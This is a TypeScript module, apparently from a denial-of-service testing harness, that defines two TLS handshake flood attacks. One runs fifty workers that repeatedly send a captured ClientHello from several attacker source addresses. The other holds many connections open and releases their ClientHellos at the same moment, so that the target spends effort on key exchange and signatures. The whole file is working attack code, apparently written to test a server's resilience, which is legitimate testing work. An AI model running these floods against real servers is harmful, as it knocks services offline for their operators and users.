import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:tls';
import type { Attack } from './assault.ts';
import { connectRaw } from './raw-connection.ts';

// ClientHellos, which cost nothing to send again: the server answers each with a key exchange and a signature.

const AT_ONCE = 50;

export interface Handshakes<Target> {
  portOf(target: Target): number;
  /** Of the attacker's pods. */
  readonly addresses: readonly string[];
  /** Connections whose ClientHellos arrive together. */
  readonly held: number;
}

/** The first bytes of a TLS connection. */
async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const accepted = once(server, 'connection') as Promise<[Socket]>;
  const client = connect({ port: (server.address() as AddressInfo).port, ALPNProtocols: ['h2'] });
  client.on('error', () => {});
  const [socket] = await accepted;
  const [hello] = (await once(socket, 'data')) as [Buffer];
  client.destroy();
  socket.destroy();
  server.close();
  return hello;
}

/** Over one connection after another, and over many connections in the same moment. */
export function handshakeAttacks<Target>({ portOf, addresses, held }: Handshakes<Target>): Attack<Target>[] {
  const open = (target: Target, index: number) =>
    connectRaw({ port: portOf(target), from: addresses[index % addresses.length] ?? '' });
  return [
    {
      name: 'client-hellos',
      async run({ target, signal, got, ready }) {
        const hello = await clientHello();
        ready();
        const worker = async (_: unknown, index: number) => {
          while (!signal.aborted) {
            using raw = await open(target, index);
            if (raw.closed) {
              got('connection refused');
              await sleep(5);
              continue;
            }
            await raw.write(hello);
            const answered = await Promise.race([
              once(raw.socket, 'data').then(() => true),
              once(raw.socket, 'close').then(() => false),
            ]).catch(() => false);
            got(answered ? 'ServerHello' : 'connection closed');
            raw.abort();
          }
        };
        await Promise.all(Array.from({ length: AT_ONCE }, worker));
      },
    },
    {
      name: 'client-hellos-at-once',
      async run({ target, signal, got, ready }) {
        const hello = await clientHello();
        ready();
        while (!signal.aborted) {
          const all = await Promise.all(Array.from({ length: held }, (_, i) => open(target, i)));
          await sleep(500);
          for (const raw of all) {
            raw.socket.once('data', () => got('ServerHello'));
            void raw.write(hello);
          }
          await sleep(1_000);
          for (const raw of all) raw.abort();
        }
      },
    },
  ];
}
